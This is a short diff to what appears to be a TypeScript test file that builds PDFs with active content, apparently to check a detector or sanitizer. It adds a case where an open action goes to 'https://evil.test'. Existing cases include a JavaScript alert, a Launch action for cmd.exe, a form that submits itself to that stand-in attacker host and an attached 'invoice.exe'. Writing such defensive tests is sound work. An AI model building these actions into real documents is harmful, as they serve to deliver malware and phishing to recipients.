@@ -23,6 +23,7 @@ const ACTIVE: [string, Change][] = [
   ['a script of its opening action', openAction({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') })],
   ['a program to start', openAction({ S: 'Launch', F: PDFString.of('cmd.exe') })],
   ['a form that sends itself', openAction({ S: 'SubmitForm', F: PDFString.of('https://evil.test') })],
+  ['an address to open by itself', openAction({ S: 'URI', URI: PDFString.of('https://evil.test') })],
   ['another file attached', (pdf) => pdf.attach(Buffer.from('MZ'), 'invoice.exe', { mimeType: 'application/octet-stream' })],
   [
     'an action of an annotation, two objects deep',
